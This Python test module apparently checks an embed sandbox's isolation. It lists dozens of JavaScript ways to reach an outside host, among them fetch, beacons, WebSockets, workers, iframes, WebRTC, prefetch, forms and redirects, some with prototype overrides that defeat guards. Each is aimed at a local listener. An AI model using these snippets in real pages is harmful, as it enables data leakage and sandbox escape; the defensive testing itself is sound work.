# Ways in which a script inside an embed can try to reach another host. Each is tried where nothing
# stands against it, too: one that does not work there would prove nothing.

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import NamedTuple

from tests.browser.exporting import APPS, embed_to, export_to, share_runtime


class Attack(NamedTuple):
    """A script that tries to reach a host, and whether the page is gone where it succeeds.

    In the script, HOST stands for a name and port of that host, ADDRESS for an address there.
    """

    name: str
    script: str
    leaves: bool


def _markup(html: str, then: str = "") -> str:
    """Puts an element into the page, and does something with it: `added` is the element."""
    insert = f"document.body.insertAdjacentHTML('beforeend', `{html}`)"
    return f"{insert}; const added = document.body.lastChild; {then}"


def _worker(kind: str, code: str) -> str:
    blob = f"new Blob([{json.dumps(code)}], {{type: 'text/javascript'}})"
    return f"new {kind}(URL.createObjectURL({blob}))"


def _frame(then: str) -> str:
    """Puts a frame into the page, and does something with it: `frame` is the element."""
    make = "const frame = document.createElement('iframe'); document.body.append(frame)"
    return f"{make}; {then}"


def _peer(window: str) -> str:
    return (
        f"const peer = new {window}.RTCPeerConnection({{iceServers: [{{urls: 'stun:HOST'}}]}});"
        "peer.createDataChannel('x');"
        "peer.createOffer().then((offer) => peer.setLocalDescription(offer))"
    )


def _link(how: str) -> str:
    return f"const link = document.createElement('a'); link.href = `ADDRESS`; {how}"


_FETCH = "fetch(`ADDRESS`)"
_PAGE = "URL.createObjectURL(new Blob([`{}`], {{type: 'text/html'}}))"
_REFRESH = "<meta http-equiv=refresh content='0;url=ADDRESS'>"

_STAYING = {
    "fetch": _FETCH,
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', `ADDRESS`); x.send()",
    "beacon": "navigator.sendBeacon(`ADDRESS`, 'x')",
    "fetch-later": "fetchLater(`ADDRESS`, {activateAfter: 0})",
    "event-source": "new EventSource(`ADDRESS`)",
    "web-socket": "new WebSocket('ws://HOST')",
    "image": _markup("<img src=ADDRESS>"),
    "style": _markup("<p style='background: url(ADDRESS)'>text</p>"),
    "style-sheet": _markup("<style>@import 'ADDRESS';</style>"),
    "font": "new FontFace('f', `url(ADDRESS)`).load().catch(() => {})",
    "video": _markup("<video src=ADDRESS autoplay></video>"),
    "svg": _markup("<svg><image href=ADDRESS /></svg>"),
    "prefetch": _markup("<link rel=prefetch href=ADDRESS>"),
    "preload": _markup("<link rel=preload as=image href=ADDRESS>"),
    "preconnect": _markup("<p><link rel=&#112;reconnect href=//HOST></p>"),
    "preconnect-in-frame": _markup("<iframe srcdoc='<link rel=preconnect href=//HOST>'></iframe>"),
    "preconnect-by-script": "const link = document.createElement('link'); link.href = '//HOST';"
    "link.rel = 'preconnect'; document.head.append(link)",
    "script": "const s = document.createElement('script'); s.src = `ADDRESS`;"
    "document.body.append(s)",
    "import": "import(`ADDRESS`).catch(() => {})",
    "object": _markup("<object data=ADDRESS></object>"),
    "ping": _markup("<a ping=ADDRESS href=#x>x</a>", "added.click()"),
    "base": "document.head.insertAdjacentHTML('afterbegin', `<base href=ADDRESS/>`);"
    "new Image().src = 'x'",
    "worker": _worker("Worker", _FETCH),
    "worker-import": _worker("Worker", "importScripts(`ADDRESS`)"),
    "worker-data": f"new Worker('data:text/javascript,' + {json.dumps(_FETCH)})",
    "worker-own-file": "new Worker('../evil.js?' + encodeURIComponent(`ADDRESS`))",
    "shared-worker": _worker("SharedWorker", _FETCH),
    "service-worker": "navigator.serviceWorker.register("
    "'../evil.js?' + encodeURIComponent(`ADDRESS`))",
    "frame": _markup("<iframe src=ADDRESS></iframe>"),
    "frame-blank": _frame(f"frame.contentWindow.{_FETCH}"),
    "frame-srcdoc": _frame("frame.srcdoc = `<img src=ADDRESS>`"),
    "frame-data": _frame("frame.src = `data:text/html,<img src=ADDRESS>`"),
    "frame-blob": _frame(f"frame.src = {_PAGE.format('<img src=ADDRESS>')}"),
    "frame-javascript": _frame("frame.src = 'javascript:`<img src=ADDRESS>`'"),
    "frame-refresh": _frame(f"frame.srcdoc = `{_REFRESH}`"),
    "frame-own-file": _frame(
        f"frame.src = '../plain.html'; frame.onload = () => frame.contentWindow.{_FETCH}"
    ),
    "open": "window.open(`ADDRESS`)",
    "open-from-frame": _frame("frame.contentWindow.open(`ADDRESS`)"),
    "link-blank-event": _markup(
        "<a href=ADDRESS target=_blank>x</a>", "added.dispatchEvent(new MouseEvent('click'))"
    ),
    "link-blank": _markup("<a href=ADDRESS target=_blank>x</a>", "added.click()"),
    "peer": _peer("window"),
    "peer-from-frame": _frame(_peer("frame.contentWindow")),
    "peer-from-window": _frame(_peer("window[window.length - 1]")),
}
_LEAVING = {
    "form": _markup("<form action=ADDRESS></form>", "added.submit()"),
    "location": "location = `ADDRESS`",
    "location-unguarded": "Event.prototype.preventDefault = () => {};"
    "String.prototype.slice = Reflect.apply = () => location.href; location = `ADDRESS`",
    "location-from-frame": _frame("frame.contentWindow.setTimeout(`parent.location = 'ADDRESS'`)"),
    "refresh": _markup(_REFRESH),
    "link": _link("document.body.append(link); link.click()"),
    "link-unattached": _link("link.click()"),
    "link-event": _link(
        "document.body.append(link); link.dispatchEvent(new MouseEvent('click', {bubbles: true}))"
    ),
    "link-download": _link("link.download = ''; document.body.append(link); link.click()"),
    "own-file": "location = '../evil.html?' + encodeURIComponent(`ADDRESS`)",
    "blob-page": f"location = {_PAGE.format(_REFRESH)}",
}
ATTACKS = [Attack(name, script, leaves=False) for name, script in _STAYING.items()]
ATTACKS += [Attack(name, script, leaves=True) for name, script in _LEAVING.items()]

_HINTS = {"preconnect", "preconnect-in-frame", "preconnect-by-script"}
_WINDOWS = {"open", "open-from-frame", "link-blank", "link-blank-event"}
_PEERS = {"peer", "peer-from-frame", "peer-from-window"}

POWERLESS = {
    "chromium": _HINTS,  # the headless shell connects with nobody ahead; Chrome does
    "firefox": {"fetch-later", "ping"},
    "webkit": {"fetch-later", "prefetch", *_WINDOWS, *_PEERS},
}
"""The attacks that reach nobody in an engine, even where nothing stands against them."""

UNSTOPPED = {
    "firefox": set[str](),
    "webkit": {*_LEAVING} - {"form", "link", "link-unattached", "link-event", "link-download"},
}
"""The attacks that nothing can stop in an engine: WebKitGTK 2.50 has no Navigation API."""

_EVIL = "fetch(decodeURIComponent(location.search.slice(1)))"


def host_with(app: str, folder: Path) -> Path:
    """A folder with an app as an embed and as an export that may ask us, and other files."""
    share_runtime(folder)
    embed_to(APPS / app, folder / "embed")
    export_to(APPS / app, folder / "export", "127.0.0.1:*")
    (folder / "evil.js").write_text(_EVIL)
    (folder / "evil.html").write_text(f"<script>{_EVIL}</script>")
    (folder / "plain.html").write_text("<p>A page of the same site.")
    return folder


class Foreigner:
    """A host that nobody should reach: it notes what arrives at a port, by TCP or UDP."""

    def __init__(self) -> None:
        self._tcp, self._udp = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
        self._tcp.bind(("127.0.0.1", 0))
        self.host = f"127.0.0.1:{self._tcp.getsockname()[1]}"
        self._udp.bind(self._tcp.getsockname())
        self._tcp.listen()
        self.reached = threading.Event()
        for receive in (self._receive_stream, self._receive_datagram):
            threading.Thread(target=receive, daemon=True).start()

    def _receive_stream(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            self.reached.set()
            connection.close()

    def _receive_datagram(self) -> None:
        with suppress(OSError):
            if self._udp.recv(1500):
                self.reached.set()

    def close(self) -> None:
        self._tcp.shutdown(socket.SHUT_RDWR)  # whoever waits for it is told
        self._udp.sendto(b"", self._udp.getsockname())
        self._tcp.close()
        self._udp.close()


@contextmanager
def foreigner() -> Iterator[Foreigner]:
    """A foreign host while the context lasts."""
    host = Foreigner()
    try:
        yield host
    finally:
        host.close()


def aimed(attack: Attack, host: Foreigner) -> str:
    """The script of an attack on a host, as the body of a function of its own."""
    address = f"http://{host.host}/{attack.name}"
    return attack.script.replace("ADDRESS", address).replace("HOST", host.host)
